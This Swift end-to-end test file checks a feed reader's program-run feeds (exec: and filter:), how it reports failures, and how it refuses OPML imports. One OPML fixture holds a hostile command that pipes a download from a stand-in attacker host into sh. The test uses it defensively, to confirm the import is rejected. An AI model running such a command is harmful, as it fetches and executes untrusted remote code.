import EndToEndSupport
import Foundation
import LoopbackServerService
import Testing

/// Feeds programs make, with real scripts in the test's home folder: `exec:` (the program's
/// output is the feed) and `filter:` (a feed served on loopback, rewritten by `sed`), a program
/// that fails with its words kept in the feed's failure, and an OPML file refused when it names
/// one.
extension EndToEnd {
    @Suite struct ProgramFeeds {
        /// Writes `bin/NAME` into the home folder of `tidings`, executable.
        static func script(_ name: String, _ body: String, in tidings: TidingsProcess) throws {
            let bin = tidings.dataDirectory.appendingPathComponent("bin")
            try FileManager.default.createDirectory(at: bin, withIntermediateDirectories: true)
            let file = bin.appendingPathComponent(name)
            try ("#!/bin/sh\n" + body + "\n").write(to: file, atomically: true, encoding: .utf8)
            try FileManager.default.setAttributes([.posixPermissions: 0o700], ofItemAtPath: file.path)
        }

        @Test func anExecFeedIsAddedRefreshedAndListedAsWritten() throws {
            let tidings = try TidingsProcess()
            try Self.script(
                "weather",
                """
                printf '<rss version="2.0"><channel><title>Weather for %s</title>' "$1"
                printf '<item><title>Rain at %s</title><guid>w1</guid></item></channel></rss>' "$2"
                """, in: tidings)
            let added = try tidings.run("add", #"exec:~/bin/weather "Den Haag" noon"#)
            #expect(added.status == 0, "\(added.errors)")
            #expect(added.output.hasPrefix("Following Weather for Den Haag"))
            let refreshed = try tidings.run("refresh", "--json")
            #expect(refreshed.status == 0, "\(refreshed.errors)")
            #expect((try refreshed.json() as? [String: Any])?["newArticles"] as? Int == 1)
            #expect(
                try tidings.run("articles", "--json").objects().compactMap { $0["title"] as? String } == [
                    "Rain at noon"
                ])
            let feeds = try tidings.run("feeds", "--json").objects()
            #expect(feeds.compactMap { $0["url"] as? String } == [#"exec:~/bin/weather "Den Haag" noon"#])
            let twice = try tidings.run("add", #"exec:~/bin/weather "Den Haag" noon"#)
            #expect(twice.status != 0 || twice.output.contains("Already"), "\(twice.output)")
        }

        @Test func aFilterFeedRewritesTheServedFeedAndKeepsItsLinks() throws {
            let server = try LoopbackServer()
            defer { server.stop() }
            server.setRoute(
                .fixed(
                    .ok(
                        #"<rss version="2.0"><channel><title>Quiet</title><link>/</link><item><title>quiet news</title><link>/post/1</link><guid>q1</guid></item></channel></rss>"#,
                        contentType: "application/rss+xml")),
                for: "/feed.xml")
            let tidings = try TidingsProcess()
            let address = server.url("/feed.xml").absoluteString
            let added = try tidings.run("add", "filter:sed s/quiet/LOUD/g:\(address)")
            #expect(added.status == 0, "\(added.errors)")
            #expect(try tidings.run("refresh").status == 0)
            let articles = try tidings.run("articles", "--json").objects()
            #expect(articles.compactMap { $0["title"] as? String } == ["LOUD news"])
            #expect(articles.first?["link"] as? String == server.url("/post/1").absoluteString)
            #expect(
                try tidings.run("feeds", "--json").objects().first?["url"] as? String
                    == "filter:sed s/quiet/LOUD/g:\(address)")
        }

        @Test func aFailingProgramKeepsWhatItSaidInTheFeedsFailure() throws {
            let tidings = try TidingsProcess()
            try Self.script(
                "works-once",
                #"[ -e "$HOME/broken" ] && { echo 'the API key has expired' >&2; exit 3; }; echo '<rss version="2.0"><channel><title>Once</title></channel></rss>'"#,
                in: tidings)
            #expect(try tidings.run("add", "exec:~/bin/works-once").status == 0)
            try Data().write(to: tidings.dataDirectory.appendingPathComponent("broken"))
            let refreshed = try tidings.run("refresh")
            #expect(refreshed.status == 1)
            let feed = try #require(try tidings.run("feeds", "--json").objects().first)
            #expect(feed["error"] as? String == "works-once exited with status 3: the API key has expired")
            let missing = try tidings.run("add", "exec:~/bin/not-there")
            #expect(missing.status == 69)
            #expect(missing.errors.contains("bin/not-there is not installed, not on PATH or not executable"))
        }

        @Test func anOPMLFileCannotAddAFeedThatRunsAProgram() throws {
            let tidings = try TidingsProcess()
            let file = tidings.dataDirectory.appendingPathComponent("from-elsewhere.opml")
            try """
            <?xml version="1.0"?><opml version="2.0"><body>
            <outline text="Helpful" xmlUrl="exec:sh -c 'curl evil.example | sh'"/>
            </body></opml>
            """.write(to: file, atomically: true, encoding: .utf8)
            let imported = try tidings.run("import", file.path)
            #expect(imported.output.hasPrefix("Imported 0 feed(s); skipped 0; failed 1."))
            #expect(
                imported.output.contains(
                    "it would run a program (exec: or filter:), which an OPML file may never add"))
            #expect(try tidings.run("feeds", "--all", "--json").objects().isEmpty)
        }
    }
}
